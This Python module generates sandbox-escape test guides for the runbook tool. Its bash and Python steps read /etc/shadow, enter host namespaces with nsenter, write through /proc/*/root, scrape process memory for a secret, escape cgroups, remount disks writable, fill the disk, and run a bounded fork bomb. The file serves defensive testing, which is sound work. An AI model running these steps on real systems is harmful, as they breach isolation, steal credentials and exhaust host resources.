"""Hostile guides: small guides in the project's format whose commands try to leave the sandbox.

Each attempt is a step of its own (one ``bash`` block on the single host ``primary``).  Where the
attempt is expected to be refused, the command ends with ``|| true``: a contained attempt is not a
failure of the guide, and the run goes on to the next attempt (a failure stops a run).  What the
attempt reached is checked from outside by the tests (tests/security/test_walls.py), never by the
guide's own word.

The attack programs are Python run by ``sudo python3 -c 'exec("…")'`` (one line: the runner types
a block line by line).  They print what they reach with words joined at run time (``"seen-" +
"pid="``), so that a word found in the output cannot come from the echoed command line.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

# ------------------------------------------------------------------------------- attack programs

LIST_PROCESSES = """
import glob
mark = (TAG + "-canary").encode()
n = 0
for p in glob.glob("/proc/[0-9]*"):
    n += 1
    try:
        if mark in open(p + "/cmdline", "rb").read():
            print("seen-" + "pid=" + p[6:])
    except OSError:
        pass
print("processes", "listed:", n)
"""

# The programs below that write or connect aim only at the machine itself: a process whose root or
# namespace is the machine's (MACHINE_ROOT: st_dev and st_ino of its "/", MACHINE_MNT, MACHINE_NET:
# namespace inodes, given by the test), never at another sandbox or container seen on the way.

NSENTER_MACHINE = """
import glob, os, subprocess
found = 0
for p in glob.glob("/proc/[0-9]*"):
    try:
        if os.stat(p + "/ns/mnt").st_ino != MACHINE_MNT:
            continue
    except OSError:
        continue
    found += 1
    subprocess.run(["nsenter", "--target=" + p[6:], "-m", "-u", "-i", "-n", "-p", "--", "touch",
                    "/var/tmp/" + TAG + "-nsenter-scan"])
    break
print("processes in the mount namespace of the machine", "found:", found)
"""

WRITE_THROUGH_PROC_ROOT = """
import glob, os
found = 0
for p in glob.glob("/proc/[0-9]*"):
    try:
        st = os.stat(p + "/root")
        if [st.st_dev, st.st_ino] != MACHINE_ROOT:
            continue
        found += 1
        with open(p + "/root/var/tmp/" + TAG + "-proc-root", "w") as f:
            f.write("written through " + p + "/root")
        print("wrote" + " through", p)
        break
    except OSError:
        pass
print("processes with the root of the machine", "found:", found)
"""

# every mount of the machine's disk the host has (binds the sandbox gave it, read-only ones too), made
# writable again (only ever "remount,bind": the mount's own flag, never the file system's) after
# what covers it is unmounted (an overlay over /usr): a file written there is a file of the machine
REMOUNT_MACHINE_DISK = """
import os, subprocess
mounts = [line.split() for line in open("/proc/self/mountinfo")]
ours = [m for m in mounts if m[2] == MACHINE_DEV]
for m in ours:
    print("machine-" + "mount=" + m[3] + " at " + m[4])
points = {m[4] for m in ours}
for m in reversed(mounts):
    if m[4] in points and m[2] != MACHINE_DEV:
        subprocess.run(["umount", "-l", m[4]])
for m in ours:
    if os.path.isdir(m[4]):
        subprocess.run(["mount", "-o", "remount,rw,bind", m[4]], stderr=subprocess.DEVNULL)
        try:
            with open(os.path.join(m[4], TAG + "-remount"), "w") as f:
                f.write("written through " + m[4])
            print("wrote" + " in", m[4])
        except OSError as e:
            print("refused:", m[4], e)
print("mounts of the machine disk", "tried:", len(ours))
"""

# FILL_MIB into each writable mount of the machine's disk the host has (the sandbox's own folders
# bound into it), and into a file of the machine the host's first process holds open (a path the
# host cannot see): kept until the run ends, so that the test sees it on the machine
FILL_MACHINE_DISK = """
import os
block = bytes(1 << 20)
n = 0
for m in [line.split() for line in open("/proc/self/mountinfo")]:
    if m[2] != MACHINE_DEV or "rw" not in m[5].split(",") or not os.path.isdir(m[4]):
        continue
    path = os.path.join(m[4], TAG + "-fill")
    n += 1
    try:
        with open(path, "wb") as f:
            for _ in range(FILL_MIB):
                f.write(block)
        print("filled", m[4], os.path.getsize(path) >> 20, "MiB")
    except OSError as e:
        print("refused:", m[4], e)
print("writable mounts of the machine disk", "filled:", n)
for fd in ("1", "2"):  # files of the machine the first process of the host writes to (its log)
    target = os.readlink("/proc/1/fd/" + fd)
    if target.startswith("/") and os.path.isfile("/proc/1/fd/" + fd) and not os.path.exists(target):
        with open("/proc/1/fd/" + fd, "ab") as f:
            for _ in range(FILL_MIB):
                f.write(block)
        print("filled", target, "through /proc/1/fd/" + fd)
        break
"""

# System V IPC objects with the test's key (each kind), left open: they live in the IPC namespace
SYSV_IPC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
made = [libc.shmget(KEY, 4096, 0o1600), libc.msgget(KEY, 0o1600), libc.semget(KEY, 1, 0o1600)]
print("sysv objects", "made:", made)
"""

READ_SHADOW_THROUGH_PROC_ROOT = """
import glob, hashlib
seen = set()
for p in glob.glob("/proc/[0-9]*"):
    try:
        data = open(p + "/root/etc/shadow", "rb").read()
    except OSError:
        continue
    h = hashlib.sha256(data).hexdigest()
    if h not in seen:
        seen.add(h)
        print("shadow through", p, h)
print("shadows", "read:", len(seen))
"""

READ_RUNBOOK_MEMORY = """
import glob, re
n = 0
for p in glob.glob("/proc/[0-9]*"):
    try:
        if b"runbook" not in open(p + "/cmdline", "rb").read():
            continue
        n += 1
        with open(p + "/maps") as maps, open(p + "/mem", "rb", 0) as mem:
            for line in maps:
                if line.rstrip().endswith("[stack]"):
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(lo)
                    for m in re.finditer(rb"RB_ESCAPE_SECRET=\\w+", mem.read(hi - lo)):
                        print("memory of", p, m.group().decode())
    except (OSError, ValueError):
        continue
print("runbook processes", "searched:", n)
"""

# one connection attempt (argv: unix|tcp, a path, "@name" for an abstract socket, or a port), run
# directly, through the root of the machine and inside its network namespace
_CONNECT = """
import socket, sys
kind, address, payload = sys.argv[1:4]
s = socket.socket(socket.AF_UNIX if kind == "unix" else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(2)
try:
    if kind == "tcp":
        s.connect(("127.0.0.1", int(address)))
    else:
        s.connect("\\0" + address[1:] if address.startswith("@") else address)
    s.sendall(payload.encode())
    print("connected" + " to", address)
except OSError as e:
    print("refused:", address, e)
"""

CONNECT_EVERYWHERE = """
import glob, os, subprocess
CONNECT = CONNECT_SOURCE
def attempt(kind, address, *prefix):
    subprocess.run([*prefix, "python3", "-c", CONNECT, kind, address, TAG + "-hello"], timeout=10)
for kind, address in TARGETS:
    attempt(kind, address)
root = net = None
for p in glob.glob("/proc/[0-9]*"):
    try:
        st = os.stat(p + "/root")
        if root is None and [st.st_dev, st.st_ino] == MACHINE_ROOT:
            root = p
        if net is None and os.stat(p + "/ns/net").st_ino == MACHINE_NET:
            net = p
    except OSError:
        continue
for kind, address in TARGETS:
    if root and kind == "unix" and address.startswith("/"):
        attempt(kind, root + "/root" + address)
    if net:
        attempt(kind, address, "nsenter", "--net=" + net + "/ns/net", "--")
print("the root and network namespace of the machine", "found in:", root, net)
""".replace("CONNECT_SOURCE", json.dumps(_CONNECT))

FORK_BOMB = ("$r=$$; $f=0; @k=(); for (1..11) { $p=fork; unless (defined $p) { $f=1; last } "
             "if ($p==0) { @k=(); next } push @k,$p } sleep 3; for (@k) { waitpid($_,0); $f=1 if $? } "
             'printf "bomb %s\\n", $f ? "refused a fork" : "started all 2048 processes" if $$==$r; exit $f')

FILL_MIB = 512

MEMORY_HOG = 'b = b"x" * (2 << 30); print("held", len(b) >> 20, "MiB")'


def python(program: str, tag: str, **values: str) -> str:
    """``sudo python3 -c 'exec("…")'`` running ``program`` with ``TAG`` (and ``values``) defined."""
    head = f"TAG = {json.dumps(tag)}\n" + "".join(f"{k} = {v}\n" for k, v in values.items())
    literal = json.dumps(head + program.strip() + "\n")
    assert "'" not in literal, "the program must not contain a single quote"
    return f"sudo python3 -c 'exec({literal})' || true"


# ------------------------------------------------------------------------------------------ guides


@dataclass(frozen=True)
class Step:
    id: str
    title: str
    lines: tuple[str, ...]


def namespaces_step() -> Step:
    """The host's namespaces and cgroups, as seen inside (the tests look for them after the run)."""
    return Step("show-namespaces", "Show the namespaces on primary", (
        "for n in mnt net pid uts ipc user cgroup; do printf 'ns-%s=%s\\n' $n \"$(readlink /proc/self/ns/$n)\"; done",
        "sed 's/^/cgroup-line=/' /proc/self/cgroup",
        "id; sudo id",
    ))


def guide(title: str, steps: list[Step], address: str = "192.168.0.70") -> str:
    """A single-host English guide with one ``bash`` block per step (an address of its own, so that
    runs at once need no two sandboxes on one address on the loopback fallback either)."""
    out = ["---", f"title: {title}", "---", "", f"# {title}", "",
           "A hostile guide of runbook's escape tests: every step tries to reach the machine.", "",
           "## Summary", ""]
    out += [f"  {i}. [normal] [{s.title}](#{s.id})\n" for i, s in enumerate(steps, 1)]
    out += ["This document uses the following environment:", "", "  * Primary:", "",
            "    * OS: Debian 12", "", f"    * IP address: {address}", ""]
    for s in steps:
        out += [f"## [normal] {s.title} {{#{s.id}}}", "", "This is a normal step.", "", "```bash", *s.lines,
                "```", ""]
    return "\n".join(out)


@dataclass(frozen=True)
class Targets:
    """What the test set up on the machine for the guide to aim at."""

    tag: str
    canary_pid: int
    unix_path: str
    abstract_name: str
    tcp_port: int
    victim_pid: int
    machine_root: tuple[int, int]
    machine_mnt: int
    machine_net: int
    ipc_key: int
    """The key of the System V IPC objects the guide makes (unique to the test run)."""
    machine_dev: str
    """major:minor of the machine's root file system (as in /proc/self/mountinfo)."""
    root_device: str | None
    root_device_numbers: tuple[int, int] | None


def walls_steps(t: Targets) -> list[Step]:
    """Every attempt that the guide survives (the run goes on), one step each."""
    tag, pid = t.tag, t.canary_pid
    disk = [f"sudo mkdir -p /tmp/{tag}-disk || true"]
    if t.root_device:
        disk.append(f"sudo blkid -p -o value -s UUID {t.root_device} || true")
        disk.append(f"sudo mount {t.root_device} /tmp/{tag}-disk && sudo touch /tmp/{tag}-disk/var/tmp/{tag}-disk"
                    f" && sudo sha256sum /tmp/{tag}-disk/etc/shadow; sudo umount /tmp/{tag}-disk || true")
    if t.root_device_numbers:
        major, minor = t.root_device_numbers
        disk.append(f"sudo mknod /tmp/{tag}-dev b {major} {minor} && sudo blkid -p -o value -s UUID /tmp/{tag}-dev"
                    f" && sudo mount /tmp/{tag}-dev /tmp/{tag}-disk && sudo touch /tmp/{tag}-disk/var/tmp/{tag}-mknod;"
                    f" sudo umount /tmp/{tag}-disk || true")
    survivor = f"bash -c 'exec -a {tag}-survivor-%s sleep 300' </dev/null >/dev/null 2>&1"
    targets = json.dumps([["unix", t.unix_path], ["unix", "@" + t.abstract_name], ["tcp", str(t.tcp_port)]])
    return [
        namespaces_step(),
        Step("write-files", "Write files of the machine on primary", (
            f"sudo touch /etc/{tag}-etc /root/{tag}-root /var/tmp/{tag}-var-tmp /home/{tag}-home || true",
            f"touch /var/tmp/{tag}-var-tmp-user || true",
            f"sudo sh -c 'echo overwritten > /etc/{tag}-existing' || true",
            f"sudo rm -f /var/tmp/{tag}-keep || true",
        )),
        Step("mount-the-disk", "Mount the machine's disk on primary", tuple(disk)),
        Step("read-shadow", "Read the shadow file on primary", (
            "sudo cat /etc/shadow || true",
            "sudo sha256sum /etc/shadow || true",
            f"sudo cp /etc/shadow /var/tmp/{tag}-shadow || true",
            python(READ_SHADOW_THROUGH_PROC_ROOT, tag),
        )),
        Step("list-processes", "List the processes on primary", (
            f"ps -eo pid,args | awk '/{tag}-canar[y]/ {{printf \"seen-%s=%s\\n\", \"pid\", $1}}' || true",
            python(LIST_PROCESSES, tag),
        )),
        Step("signal-processes", "Signal the processes on primary", (
            f"sudo pkill -KILL -f '{tag}-victi[m]' || true",
            f"sudo kill -KILL {t.victim_pid} || true",
        )),
        Step("enter-namespaces", "Enter the machine's namespaces on primary", (
            f"sudo nsenter -t 1 -m -u -i -n -p -- touch /var/tmp/{tag}-nsenter-1 || true",
            f"sudo nsenter -t {pid} -m -u -i -n -p -- touch /var/tmp/{tag}-nsenter-canary || true",
            f"sudo nsenter -t {pid} -a -- touch /var/tmp/{tag}-nsenter-canary-all || true",
            python(NSENTER_MACHINE, tag, MACHINE_MNT=str(t.machine_mnt)),
        )),
        Step("proc-root", "Write through the root of other processes on primary", (
            python(WRITE_THROUGH_PROC_ROOT, tag, MACHINE_ROOT=json.dumps(t.machine_root)),
        )),
        Step("read-environment", "Read runbook's environment on primary", (
            "sudo sh -c 'cat /proc/[0-9]*/environ 2>/dev/null' | tr '\\0' '\\n'"
            " | grep -a '^RB_ESCAPE_SECRET=' | sort -u || true",
            python(READ_RUNBOOK_MEMORY, tag),
        )),
        Step("connect", "Connect to the machine's listeners on primary", (
            f"timeout 3 bash -c 'echo {tag}-hello > /dev/tcp/127.0.0.1/{t.tcp_port}' || true",
            python(CONNECT_EVERYWHERE, tag, TARGETS=targets, MACHINE_ROOT=json.dumps(t.machine_root),
                   MACHINE_NET=str(t.machine_net)),
        )),
        Step("leave-processes", "Leave processes behind on primary", (
            f"setsid -f {survivor % 'setsid'} || true",
            f"(nohup {survivor % 'nohup'} &) || true",
            f"sudo setsid -f unshare --fork --pid --mount-proc --mount --uts --ipc --net {survivor % 'unshare'}"
            " || true",
            f"setsid -f unshare --user --map-root-user --fork {survivor % 'userns'} || true",
            f"sudo nsenter -t {pid} -m -u -i -n -p -- setsid -f {survivor % 'nsenter'} || true",
            f"sudo nsenter -t 1 -m -u -i -n -p -- setsid -f {survivor % 'nsenter-1'} || true",
            f"env RB_ESCAPE_MARK={tag}-survivor-env setsid -f sleep 300 </dev/null >/dev/null 2>&1 || true",
            # out of the host's cgroups (pids, freezer: where teardown finds a host's processes), then away
            "sudo sh -c 'for c in pids freezer; do echo $$ > /sys/fs/cgroup/$c/cgroup.procs; done;"
            f" exec setsid -f bash -c \"exec -a {tag}-survivor-cgroup sleep 300\"' </dev/null >/dev/null 2>&1 || true",
            f"ps -eo pid,args | grep -c '{tag}-survivo[r]' || true",
        )),
        Step("fill-disk", "Fill the machine's disk on primary", (
            python(FILL_MACHINE_DISK, tag, MACHINE_DEV=json.dumps(t.machine_dev), FILL_MIB=str(FILL_MIB)),
        )),
        Step("leave-traces", "Leave traces in the kernel on primary", (
            f"sudo hostname {tag}-host || true",
            f"sudo sh -c 'echo {tag}-domain > /proc/sys/kernel/domainname' || true",
            "hostname; cat /proc/sys/kernel/domainname",
            python(SYSV_IPC, tag, KEY=str(t.ipc_key)),
            # a mount made shared everywhere it can be, in case the host's mounts propagate to the machine
            f"sudo sh -c 'for d in /mnt /tmp /var/tmp /run /home; do mount --make-shared $d 2>/dev/null;"
            f" mkdir -p $d/{tag}-mnt && mount -t tmpfs {tag}-propagated $d/{tag}-mnt; done; grep -c {tag}-propagated"
            " /proc/self/mountinfo' || true",
        )),
        # last: it unmounts what covers the machine's mounts (the host's /usr overlay)
        Step("remount", "Make the machine's mounts writable on primary", (
            python(REMOUNT_MACHINE_DISK, tag, MACHINE_DEV=json.dumps(t.machine_dev)),
        )),
    ]


def deputy_steps(tag: str) -> list[Step]:
    """runbook as the guide's deputy: the observer (runbook's own connection to a host's server, from
    the machine) is pointed by a symlink at a Unix socket of the machine, then called by a reload."""
    return [
        namespaces_step(),
        Step("install-postgresql", "Install PostgreSQL on primary", ("sudo apt install -y postgresql-16",)),
        Step("redirect-socket", "Redirect the server's socket on primary", (
            "sudo sh -c 'cd /var/run/postgresql && mv .s.PGSQL.5432 .s.PGSQL.5432.real"
            f" && ln -s /var/tmp/{tag}-deputy.sock .s.PGSQL.5432' || true",
            "ls -la /var/run/postgresql",
            "sudo systemctl reload postgresql || true",
        )),
    ]


def bomb_steps(tag: str) -> list[Step]:
    """A fork bomb bounded by itself (2^11 processes at most, 3 s each), so that it cannot take down a
    machine whose sandbox does not limit it; the sandbox's limit must refuse a fork before that."""
    return [namespaces_step(),
            Step("fork-bomb", "Start a fork bomb on primary", (f"perl -e '{FORK_BOMB}' {tag}-bomb",))]


FLOOD_MB = 30


def hog_steps(tag: str) -> list[Step]:
    """FLOOD_MB of output (runbook reads it, on the machine: outside the host's memory limit), then
    2 GiB of memory, touched (``b"x" * n`` writes every page)."""
    return [namespaces_step(),
            Step("flood-output", "Print much on primary", (
                f"head -c {FLOOD_MB * 1000 * 1000} /dev/zero | tr '\\0' x | fold -w 100",)),
            Step("memory-hog", "Take 2 GiB of memory on primary", (f"python3 -c '{MEMORY_HOG}' {tag}-hog",))]
